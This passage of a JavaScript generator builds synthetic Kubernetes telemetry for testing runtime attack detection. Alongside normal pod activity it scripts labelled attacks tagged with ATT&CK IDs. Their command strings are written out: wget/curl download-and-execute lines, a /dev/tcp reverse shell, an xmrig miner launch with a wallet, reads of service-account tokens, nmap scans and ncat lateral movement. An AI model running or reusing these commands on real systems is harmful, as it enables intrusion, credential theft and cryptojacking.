  }

  // Day 4 11:05: an SRE investigates memory use: `kubectl exec -it redis-... -- bash` (normal).
  const sre = new Flow('redis-sre', at(4, '11:05:21'));
  const bash = sre.spawn(RUNC, c, { exe: '/usr/bin/bash', name: 'bash' }, [0, 10]);
  sre.spawn(bash, c, { exe: '/usr/local/bin/redis-cli', name: 'redis-cli', args: 'info memory' }, [6000, 15_000]);
  sre.spawn(bash, c, { exe: '/usr/local/bin/redis-cli', name: 'redis-cli', args: '--bigkeys' }, [20_000, 60_000]);
  sre.spawn(bash, c, { exe: '/usr/bin/ls', name: 'ls', args: '-la /data' }, [10_000, 30_000]);
  sre.spawn(bash, c, { exe: '/usr/local/bin/redis-cli', name: 'redis-cli', args: 'slowlog get 10' }, [15_000, 40_000]);
  return { c, server };
}

// ---------------------------------------------------------------------------
// shop/Deployment/worker: Celery (python:3.12-slim-bookworm), 2 replicas.

const WORKER_HASH = new Rand('worker-hash').k8s(10);
const workerPods = (() => {
  const r = new Rand('worker-pods');
  return [
    { pod: `worker-${WORKER_HASH}-${r.k8s(5)}`, node: 'node-a', ip: '10.244.0.60' },
    { pod: `worker-${WORKER_HASH}-${r.k8s(5)}`, node: 'node-b', ip: '10.244.1.61' },
  ];
})();
const appUser = { user: 'app', uid: 1000 };
// livenessProbe: exec ["/bin/sh", "-c", "celery -A shop.tasks inspect ping -d celery@$HOSTNAME"]:
// dash execs the one command; celery resolves and asks the broker.
function workerLiveness(f, c, pod, when) {
  const sh = f.spawn(RUNC, c, { exe: '/usr/bin/dash', name: 'sh', args: '-c celery -A shop.tasks inspect ping -d celery@$HOSTNAME', ...appUser }, when);
  const ping = f.reexec(sh, { exe: PY, name: 'celery', args: `/usr/local/bin/celery -A shop.tasks inspect ping -d celery@${pod}` }, [0, 2]);
  f.dns(ping, [900, 2000]);
  f.connect(ping, { ip: SVC.redis, port: 6379 }, [1, 20]);
}
const WORKER_RESTART = at(6, '03:41:52');

function workerStart(f, p) {
  const c = f.container({ name: 'worker', image: IMAGES.worker, ns: 'shop', kind: 'Deployment', workload: 'worker', ...p });
  // `celery` is a Python script: the kernel runs the interpreter, comm is the script name.
  const main = f.spawn(SHIM, c, { exe: PY, name: 'celery', args: '/usr/local/bin/celery -A shop.tasks worker --loglevel=INFO --concurrency=4', ...appUser }, [400, 1500]);
  f.dns(main, [1500, 4000]);
  f.connect(main, { ip: SVC.redis, port: 6379 }, [1, 20]);
  f.connect(main, { ip: SVC.redis, port: 6379 }, [1, 20]);
  const pool = [0, 1, 2, 3].map(() => f.fork(main));
  // kubelet runs the exec liveness probe of every new container after its initialDelaySeconds.
  workerLiveness(f, c, p.pod, [20_000, 40_000]);
  return { c, main, pool, ready: f.tick(2000, 4000) };
}

function worker() {
  const pods = workerPods.map((p, i) => {
    const f = new Flow(`worker-${i}`, at(1, '00:01:30') + BigInt(i * 13) * NS);
    const incs = [workerStart(f, p)];
    if (i === 1) {
      // Day 6: the liveness probe times out (CPU starved by the miner, see attack b); kubelet restarts it.
      incs[0].until = WORKER_RESTART;
      f.jump(WORKER_RESTART);
      incs.push(workerStart(f, p));
    }
    return { p, incs, avoid: i === 1 ? [[WORKER_RESTART - 60n * NS, WORKER_RESTART + 120n * NS]] : [] };
  });

  pods.forEach(({ p, incs, avoid }, i) => {
    const f = new Flow(`worker-traffic-${i}`, T0);
    let job = 41_000 + i * 7_000;
    for (let day = 1; day <= DAYS; day++) {
      burstTimes(f, day, 20, avoid).forEach((ns, n) => {
        const inc = current(incs, ns);
        f.jump(ns);
        const w = f.pick(inc.pool);
        const full = day === 1 && n === 0;
        f.connect(w, { ip: SVC.redis, port: 6379 }, [1, 30]);
        if (full || f.chance(0.5)) f.connect(w, { ip: SVC.postgres, port: 5432 }, [1, 30]);
        if (full || f.chance(0.35)) {
          // Thumbnail task: subprocess.run(f"convert {src} -resize 800x800 {dst}", shell=True).
          // dash runs a single command with exec; /usr/bin/convert is an alternatives symlink.
          job += f.int(1, 40);
          const sh = f.spawn(w, inc.c, { exe: '/usr/bin/dash', name: 'sh', args: `-c convert /tmp/upload-${job}.jpg -resize 800x800 /tmp/thumb-${job}.jpg` }, [20, 600]);
          f.reexec(sh, { exe: '/usr/bin/convert-im6.q16', name: 'convert', args: `/tmp/upload-${job}.jpg -resize 800x800 /tmp/thumb-${job}.jpg` }, [0, 2]);
        }
        if (full || f.chance(0.15)) {
          job += f.int(1, 40);
          f.spawn(w, inc.c, { exe: '/usr/bin/wkhtmltopdf', name: 'wkhtmltopdf', args: `--quiet /tmp/invoice-${job}.html /tmp/invoice-${job}.pdf` }, [20, 600]);
        }
        if (full || f.chance(0.2)) f.external(w, SENDGRID, 587, [20, 900]); // order confirmation mail
      });
    }
    // The liveness probe (every minute in reality; sampled).
    const probe = new Flow(`worker-probe-${i}`, T0);
    for (let day = 1; day <= DAYS; day++) {
      burstTimes(probe, day, 3, avoid).forEach((ns) => {
        const inc = current(incs, ns);
        probe.jump(ns);
        workerLiveness(probe, inc.c, p.pod, [0, 5]);
      });
    }
  });
  return pods;
}

// ---------------------------------------------------------------------------
// shop/CronJob/backup: schedule "0 2 * * *"; each night a new Job backup-<minute> and pod.

function backup(pgIncs) {
  const nights = [];
  for (let day = 1; day <= DAYS; day++) {
    const scheduled = at(day, '02:00');
    const minute = scheduled / (60n * NS);
    const f = new Flow(`backup-${minute}`, scheduled + BigInt(1500) * MS);
    const node = ['node-c', 'node-a', 'node-b'][day % 3];
    const subnet = { 'node-a': '10.244.0', 'node-b': '10.244.1', 'node-c': '10.244.2' }[node];
    const c = f.container({
      name: 'backup', image: IMAGES.backup, ns: 'shop', kind: 'CronJob', workload: 'backup',
      pod: `backup-${minute}-${f.k8s(5)}`, node, ip: `${subnet}.${100 + day * 3}`,
    });
    const date = isoNs(scheduled).slice(0, 10);
    const user = { user: 'backup', uid: 1001 };
    const sh = f.spawn(SHIM, c, { exe: '/usr/bin/bash', name: 'backup.sh', args: '/scripts/backup.sh', ...user }, [1500, 6000]);
    f.spawn(sh, c, { exe: '/usr/bin/date', name: 'date', args: '+%F' }, [2, 20]);
    // pg_dump | gzip -9 > file: /usr/bin/pg_dump is Debian's pg_wrapper (a Perl script).
    const wrapper = f.spawn(sh, c, { exe: '/usr/bin/perl', name: 'pg_dump', args: '/usr/bin/pg_dump -h postgres.shop.svc.cluster.local -U backup -Fc shop' }, [2, 20]);
    f.spawn(sh, c, { exe: '/usr/bin/gzip', name: 'gzip', args: '-9' }, [0, 2]);
    const dump = f.reexec(wrapper, { exe: `${PG}/pg_dump`, name: 'pg_dump', args: '-h postgres.shop.svc.cluster.local -U backup -Fc shop' }, [20, 90]);
    f.dns(dump, [1, 10]);
    f.connect(dump, { ip: SVC.postgres, port: 5432 }, [1, 10]);
    // The server side of the same connection.
    const pg = current(pgIncs, f.now);
    if (pg) f.accept(pg.pm, { ip: c.ip, port: 5432 }, [0, 2]);
    f.tick(40_000, 140_000);
    // aws s3 cp with IRSA: STS AssumeRoleWithWebIdentity, then the upload (multipart: several connects).
    const aws = f.spawn(sh, c, { exe: AWS, name: 'aws', args: `s3 cp /tmp/shop-${date}.dump.gz s3://shop-prod-backups/postgres/${date}/ --only-show-errors`, ...user }, [5, 50]);
    f.external(aws, STS, 443, [800, 2000]);
    f.dns(aws, [100, 600]);
    for (let k = f.int(2, 4); k > 0; k--) f.connect(aws, { ip: f.pick(S3.ips), port: 443, name: S3.name }, [5, 900]);
    f.spawn(sh, c, { exe: '/usr/bin/rm', name: 'rm', args: `-f /tmp/shop-${date}.dump.gz` }, [500, 3000]);
    nights.push({ day, minute, pod: c.pod });
  }
  return nights;
}

// ---------------------------------------------------------------------------
// logging/DaemonSet/fluent-bit: distroless image, one pod per node.

const FLUENT_PODS = (() => {
  const r = new Rand('fluent-bit-pods');
  return [
    { pod: `fluent-bit-${r.k8s(5)}`, node: 'node-a', ip: '10.244.0.7' },
    { pod: `fluent-bit-${r.k8s(5)}`, node: 'node-b', ip: '10.244.1.7' },
    { pod: `fluent-bit-${r.k8s(5)}`, node: 'node-c', ip: '10.244.2.7' },
  ];
})();

function fluentBit() {
  return FLUENT_PODS.map((p, i) => {
    const f = new Flow(`fluent-bit-${i}`, at(1, '00:00:01') + BigInt(i * 2) * NS);
    const c = f.container({ name: 'fluent-bit', image: IMAGES.fluentbit, ns: 'logging', kind: 'DaemonSet', workload: 'fluent-bit', ...p });
    const fb = f.spawn(SHIM, c, { exe: '/fluent-bit/bin/fluent-bit', name: 'fluent-bit', args: '-c /fluent-bit/etc/conf/fluent-bit.conf' }, [200, 1500]);
    f.dns(fb, [300, 900]);
    f.connect(fb, { ip: KUBE_API, port: 443 }, [1, 20]);
    const t = new Flow(`fluent-bit-traffic-${i}`, T0);
    for (let day = 1; day <= DAYS; day++) {
      burstTimes(t, day, 12).forEach((ns, n) => {
        t.jump(ns);
        const full = day === 1 && n === 0;
        t.connect(fb, { ip: SVC.loki, port: 3100 }, [1, 40]);
        if (full || t.chance(0.25)) t.connect(fb, { ip: KUBE_API, port: 443 }, [100, 3000]); // kubernetes filter metadata
        if (full || t.chance(0.2)) t.dns(fb, [100, 3000]);
        if (full || t.chance(0.3)) t.accept(fb, { ip: PROMETHEUS_POD, port: 2020 }, [100, 9000]); // /api/v1/metrics/prometheus
      });
    }
    return { c, fb };
  });
}

// ---------------------------------------------------------------------------
// Bare pods: monitoring/Pod/synthetic-probe (curl loop) and default/Pod/dnsutils.

function barePods() {
  const f = new Flow('synthetic-probe', at(1, '00:03:40'));
  const c = f.container({ name: 'probe', image: IMAGES.curl, ns: 'monitoring', kind: 'Pod', workload: 'synthetic-probe', pod: 'synthetic-probe', node: 'node-a', ip: '10.244.0.70' });
  const probeUser = { user: 'curl_user', uid: 100 };
  // Alpine: sh and sleep are busybox applets (canonical exepath /bin/busybox); musl resolves with
  // unconnected UDP (no connect event for DNS).
  const sh = f.spawn(SHIM, c, { exe: '/bin/busybox', name: 'sh', args: '-c while true; do curl -fsS -o /dev/null -w %{http_code} http://storefront.shop.svc.cluster.local/healthz; sleep 60; done', ...probeUser }, [200, 700]);
  for (let day = 1; day <= DAYS; day++) {
    burstTimes(f, day, 8).forEach((ns) => {
      f.jump(ns);
      const curl = f.spawn(sh, c, { exe: '/usr/bin/curl', name: 'curl', args: '-fsS -o /dev/null -w %{http_code} http://storefront.shop.svc.cluster.local/healthz' }, [0, 5]);
      f.connect(curl, { ip: SVC.storefront, port: 80 }, [1, 15]);
      f.spawn(sh, c, { exe: '/bin/busybox', name: 'sleep', args: '60' }, [20, 300]);
    });
  }

  const d = new Flow('dnsutils', at(1, '09:47:03'));
  const dc = d.container({ name: 'dnsutils', image: IMAGES.dnsutils, ns: 'default', kind: 'Pod', workload: 'dnsutils', pod: 'dnsutils', node: 'node-b', ip: '10.244.1.71' });
  // Debian jessie: no merged /usr, sleep is /bin/sleep.
  d.spawn(SHIM, dc, { exe: '/bin/sleep', name: 'sleep', args: 'infinity' }, [200, 700]);
  // `kubectl exec dnsutils -- nslookup ...` on day 1 (while debugging a resolver issue) and day 6.
  for (const [day, clock, names] of [[1, '10:02:40', ['kubernetes.default', 'postgres.shop.svc.cluster.local']], [6, '16:40:12', ['api.stripe.com']]]) {
    d.jump(at(day, clock));
    for (const name of names) {
      const ns = d.spawn(RUNC, dc, { exe: '/usr/bin/nslookup', name: 'nslookup', args: name }, [2000, 30_000]);
      d.dns(ns, [5, 30]);
    }
  }
  // Day 6: the same SRE also tries dig (new, normal).
  const dig = d.spawn(RUNC, dc, { exe: '/usr/bin/dig', name: 'dig', args: '+short api.stripe.com' }, [10_000, 40_000]);
  d.dns(dig, [5, 30]);
}

// ---------------------------------------------------------------------------
// Attacks.

// (e) During learning (day 1): a web shell in storefront pod 2 downloads and runs an implant.
function attackLearningWindow(sf) {
  const { incs } = sf[1];
  const inc = incs[0];
  const f = new Flow('attack-learning-implant', at(1, '15:22:08'));
  const c = inc.c;
  const w = inc.workers[0];
  const id = 'learning-window-implant';
  const cmd = 'wget -q -O /tmp/.kworker http://198.51.100.9/k && chmod 755 /tmp/.kworker && /tmp/.kworker';
  const sh = f.attack(id, 'T1505.003', () => f.spawn(w, c, { exe: '/usr/bin/dash', name: 'sh', args: `-c ${cmd}` }, [0, 5]));
  f.attack(id, 'T1105', () => {
    const wget = f.spawn(sh, c, { exe: '/usr/bin/wget', name: 'wget', args: '-q -O /tmp/.kworker http://198.51.100.9/k' }, [1, 5]);
    f.connect(wget, { ip: '198.51.100.9', port: 80 }, [1, 30]);
  });
  f.attack(id, 'T1222.002', () => f.spawn(sh, c, { exe: '/usr/bin/chmod', name: 'chmod', args: '755 /tmp/.kworker' }, [800, 2500]));
  f.attack(id, 'T1071.001', () => {
    const imp = f.spawn(sh, c, { exe: '/tmp/.kworker', name: '.kworker', upper: true }, [1, 5]);
    f.connect(imp, { ip: '198.51.100.9', port: 443 }, [100, 900]);
    // Beacons every 1-2 hours until the end of day 1 (then it goes quiet).
    while (f.now < at(1, '22:30')) f.connect(imp, { ip: '198.51.100.9', port: 443 }, [3_600_000, 7_200_000]);
  });
}

// (a) Day 2: web shell in storefront pod 1: recon, download, implant, C2.
function attackWebShell(sf) {
  const inc = sf[0].incs[0];
  const c = inc.c;
  const w = inc.workers[1];
  const f = new Flow('attack-webshell', at(2, '21:40:31'));
  const id = 'webshell-storefront';
  const one = (technique, args, exe, name, rest, when) => f.attack(id, 'T1505.003', () => {
    const sh = f.spawn(w, c, { exe: '/usr/bin/dash', name: 'sh', args: `-c ${args}` }, when);
    return f.attack(id, technique, () => f.reexec(sh, { exe, name, args: rest }, [0, 2]));
  });
  one('T1033', 'id', '/usr/bin/id', 'id', undefined, [0, 5]);
  one('T1082', 'uname -a', '/usr/bin/uname', 'uname', '-a', [4000, 12_000]);
  const curl = one('T1105', 'curl -fsSL http://203.0.113.66/x -o /tmp/x', '/usr/bin/curl', 'curl', '-fsSL http://203.0.113.66/x -o /tmp/x', [9000, 30_000]);
  f.attack(id, 'T1105', () => f.connect(curl, { ip: '203.0.113.66', port: 80 }, [1, 20]));
  const sh = f.attack(id, 'T1505.003', () => f.spawn(w, c, { exe: '/usr/bin/dash', name: 'sh', args: '-c chmod +x /tmp/x && /tmp/x &' }, [8000, 25_000]));
  f.attack(id, 'T1222.002', () => f.spawn(sh, c, { exe: '/usr/bin/chmod', name: 'chmod', args: '+x /tmp/x' }, [1, 3]));
  f.attack(id, 'T1071.001', () => {
    const imp = f.spawn(sh, c, { exe: '/tmp/x', name: 'x', upper: true }, [1, 3]);
    f.connect(imp, { ip: '198.51.100.14', port: 8443 }, [50, 400]);
    for (let k = 0; k < 5; k++) f.connect(imp, { ip: '198.51.100.14', port: 8443 }, [600_000, 1_800_000]);
  });
}

// (b) Day 4: crypto miner in Celery worker pod 2 (task deserialization RCE).
function attackMiner(wk) {
  const inc = wk[1].incs[0];
  const c = inc.c;
  const w = inc.pool[2];
  const f = new Flow('attack-miner', at(4, '03:12:44'));
  const id = 'miner-worker';
  const cmd = 'python3 -c \'import urllib.request as u;u.urlretrieve("http://198.51.100.77/xmrig","/dev/shm/xmrig")\' && chmod +x /dev/shm/xmrig && /dev/shm/xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1 -B';
  const sh = f.attack(id, 'T1059.004', () => f.spawn(w, c, { exe: '/usr/bin/dash', name: 'sh', args: `-c ${cmd}` }, [0, 5]));
  f.attack(id, 'T1105', () => {
    const py = f.spawn(sh, c, { exe: PY, name: 'python3', args: '-c import urllib.request as u;u.urlretrieve("http://198.51.100.77/xmrig","/dev/shm/xmrig")' }, [1, 5]);
    f.connect(py, { ip: '198.51.100.77', port: 80 }, [80, 300]);
  });
  f.attack(id, 'T1222.002', () => f.spawn(sh, c, { exe: '/usr/bin/chmod', name: 'chmod', args: '+x /dev/shm/xmrig' }, [1500, 4000]));
  f.attack(id, 'T1496', () => {
    // /dev/shm is a tmpfs, not the overlay upper layer: proc.is_exe_upper_layer is false.
    const xmrig = f.spawn(sh, c, { exe: '/dev/shm/xmrig', name: 'xmrig', args: '-o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1 -B' }, [1, 5]);
    f.dns(xmrig, [5, 50]);
    f.connect(xmrig, { ip: '198.51.100.23', port: 3333, name: 'pool.supportxmr.com' }, [1, 30]);
    // Reconnects, then fails over to the pool's 4444 port; runs until the container restarts on day 6.
    for (let k = 0; k < 6; k++) {
      const port = k < 2 ? 3333 : 4444;
      f.dns(xmrig, [3 * 3_600_000, 8 * 3_600_000]);
      f.connect(xmrig, { ip: port === 3333 ? '198.51.100.23' : '198.51.100.24', port, name: 'pool.supportxmr.com' }, [1, 30]);
    }
    if (f.now >= WORKER_RESTART) throw new Error('miner outlives its container');
  });
}

// (c) Day 5: reverse shell from the Java API (new-version pod), e.g. a deserialization/JNDI bug.
function attackReverseShell(ap) {
  const inc = ap[2].incs[0];
  const c = inc.c;
  const f = new Flow('attack-reverse-shell', at(5, '14:50:09'));
  const id = 'reverse-shell-api';
  const bash = f.attack(id, 'T1059.004', () => {
    const outer = f.spawn(inc.jvm, c, { exe: '/usr/bin/bash', name: 'bash', args: '-c bash -i >& /dev/tcp/203.0.113.200/4444 0>&1' }, [0, 5]);
    return f.reexec(outer, { exe: '/usr/bin/bash', name: 'bash', args: '-i' }, [0, 2]);
  });
  f.attack(id, 'T1095', () => f.connect(bash, { ip: '203.0.113.200', port: 4444 }, [1, 10]));
  f.attack(id, 'T1033', () => f.spawn(bash, c, { exe: '/usr/bin/id', name: 'id' }, [5000, 20_000]));
  f.attack(id, 'T1082', () => f.spawn(bash, c, { exe: '/usr/bin/hostname', name: 'hostname' }, [3000, 15_000]));
  f.attack(id, 'T1552', () => f.spawn(bash, c, { exe: '/usr/bin/env', name: 'env' }, [4000, 20_000]));
  f.attack(id, 'T1083', () => f.spawn(bash, c, { exe: '/usr/bin/ls', name: 'ls', args: '-la /app /app/config' }, [5000, 30_000]));
}

// (d) Day 6: with a stolen kubeconfig, `kubectl exec` into postgres-0, install nmap, scan the pod network.
function attackPackageManager(pgState) {
  const inc = pgState.incs[1];
  const c = inc.c;
  const f = new Flow('attack-apt-nmap', at(6, '01:15:37'));
  const id = 'apt-nmap-postgres';
  const apt = { user: '_apt', uid: 42 };
  const bash = f.attack(id, 'T1609', () => f.spawn(RUNC, c, { exe: '/usr/bin/bash', name: 'bash' }, [0, 10]));
  f.attack(id, 'T1105', () => {
    const upd = f.spawn(bash, c, { exe: '/usr/bin/apt-get', name: 'apt-get', args: 'update' }, [8000, 20_000]);
    const http = f.spawn(upd, c, { exe: '/usr/lib/apt/methods/http', name: 'http', ...apt }, [5, 40]);
    f.dns(http, [1, 10]);
    f.connect(http, { ip: DEBIAN.ips[0], port: 80, name: DEBIAN.name }, [1, 20]);
    f.connect(http, { ip: DEBIAN.ips[1], port: 80, name: DEBIAN.name }, [100, 600]);
    f.spawn(upd, c, { exe: '/usr/lib/apt/methods/gpgv', name: 'gpgv', ...apt }, [400, 1500]);
    const inst = f.spawn(bash, c, { exe: '/usr/bin/apt-get', name: 'apt-get', args: 'install -y --no-install-recommends nmap' }, [6000, 20_000]);
    const http2 = f.spawn(inst, c, { exe: '/usr/lib/apt/methods/http', name: 'http', ...apt }, [200, 800]);
    f.dns(http2, [1, 10]);
    f.connect(http2, { ip: DEBIAN.ips[0], port: 80, name: DEBIAN.name }, [1, 20]);
    const dpkg = f.spawn(inst, c, { exe: '/usr/bin/dpkg', name: 'dpkg', args: '--status-fd 35 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/libpcap0.8_1.10.3-1_amd64.deb /var/cache/apt/archives/nmap_7.93+dfsg1-1_amd64.deb' }, [2000, 6000]);
    f.spawn(dpkg, c, { exe: '/usr/bin/dpkg-deb', name: 'dpkg-deb', args: '--fsys-tarfile /var/cache/apt/archives/nmap_7.93+dfsg1-1_amd64.deb' }, [5, 40]);
    const cfg = f.spawn(inst, c, { exe: '/usr/bin/dpkg', name: 'dpkg', args: '--status-fd 35 --configure --pending' }, [1000, 3000]);
    f.spawn(cfg, c, { exe: '/usr/sbin/ldconfig', name: 'ldconfig' }, [50, 400]);
  });
  f.attack(id, 'T1046', () => {
    // A connect scan (-sT): a SYN scan would use raw sockets and show no connect events.
    const nmap = f.spawn(bash, c, { exe: '/usr/bin/nmap', name: 'nmap', args: '-sT -Pn -n -p 22,80,443,5432,6379,8080,10250 10.244.0.0/22' }, [15_000, 40_000]);
    const targets = ['10.244.0.21', '10.244.0.60', '10.244.1.22', '10.244.1.61', '10.244.2.23', '10.244.2.50', '10.0.1.10', '10.0.3.12'];
    for (const ip of targets) {
      for (const port of [22, 80, 5432, 6379, 8080, 10250]) f.connect(nmap, { ip, port }, [0, 4]);
    }
  });
}

// (f) Day 6: credential access through redis (Lua sandbox escape, CVE-2022-0543 style).
function attackTokenTheft(rd) {
  const c = rd.c;
  const f = new Flow('attack-redis-token', at(6, '19:40:55'));
  const id = 'sa-token-redis';
  for (const file of ['token', 'namespace', 'ca.crt']) {
    const sh = f.attack(id, 'T1059.004', () => f.spawn(rd.server, c, { exe: '/usr/bin/dash', name: 'sh', args: `-c cat /var/run/secrets/kubernetes.io/serviceaccount/${file}` }, [2000, 15_000]));
    f.attack(id, 'T1528', () => f.reexec(sh, { exe: '/usr/bin/cat', name: 'cat', args: `/var/run/secrets/kubernetes.io/serviceaccount/${file}` }, [0, 2]));
  }
}

// (g) Day 7: lateral movement from the log shipper on node-b (exploited fluent-bit, CVE-2024-4323 style):
// a static ncat dropped in /tmp talks to redis and postgres pods directly.
function attackLateral(fb) {
  const { c, fb: proc } = fb[1];
  const f = new Flow('attack-lateral-ncat', at(7, '09:31:18'));
  const id = 'lateral-ncat-fluent-bit';
  const hops = [
    ['-v 10.244.2.50 6379', '10.244.2.50', 6379],
    ['-v --send-only 10.244.2.50 6379', '10.244.2.50', 6379],
    ['-v 10.244.1.40 5432', '10.244.1.40', 5432],
    ['-v 10.244.1.35 8080', '10.244.1.35', 8080],
  ];
  for (const [args, ip, port] of hops) {
    const nc = f.attack(id, 'T1570', () => f.spawn(proc, c, { exe: '/tmp/ncat', name: 'ncat', args, upper: true }, [5000, 40_000]));
    f.attack(id, 'T1210', () => f.connect(nc, { ip, port }, [1, 10]));
  }
}

// ---------------------------------------------------------------------------

function build() {
  EVENTS.length = 0;
  for (const k of Object.keys(pids)) delete pids[k];
  for (const k of Object.keys(ports)) delete ports[k];
  pidRand.rng = makeRng(seedOf('pids'));

  const fb = fluentBit();
  const pg = postgres();
  const rd = redis();
  const sf = storefront();
  const ap = api();
  const wk = worker();
  backup(pg.incs);
  barePods();
  attackLearningWindow(sf);
  attackWebShell(sf);
  attackMiner(wk);
  attackReverseShell(ap);
  attackPackageManager(pg);
  attackTokenTheft(rd);
  attackLateral(fb);

  const sorted = [...EVENTS].sort((a, b) => (a.ns < b.ns ? -1 : a.ns > b.ns ? 1 : a.seq - b.seq));
  for (let i = 1; i < sorted.length; i++) {
    if (sorted[i].ns <= sorted[i - 1].ns) throw new Error(`two observations at ${isoNs(sorted[i].ns)}`);
  }
  const first = sorted[0].ns;
  const last = sorted.at(-1).ns;
  if (first < T0 || last >= T0 + BigInt(DAYS) * DAY) throw new Error('observation outside the week');
  return { [OUT_FILE]: sorted.map((e) => `${e.line}\n`).join('') };
}

function main() {
  const check = process.argv.includes('--check');
  const files = build();
  let stale = 0;
  for (const [name, text] of Object.entries(files)) {
    const path = join(HERE, name);
    if (check) {
      let current = null;
      try { current = readFileSync(path, 'utf8'); } catch { current = null; }
      if (current !== text) { stale++; console.error(`stale: test/scenarios/${name}`); }
    } else {
      writeFileSync(path, text);
    }
  }
  if (check) {
    if (stale) { console.error('run: node test/scenarios/generate.mjs'); process.exit(1); }
    console.log(`test/scenarios: ${Object.keys(files).length} file up to date`);
  } else {
    const text = files[OUT_FILE];
    console.log(`test/scenarios: wrote ${OUT_FILE} (${text.split('\n').length - 1} lines, ${Buffer.byteLength(text)} bytes)`);
  }
}

// Importing this module (for its exported constants) does not write anything.
if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) main();
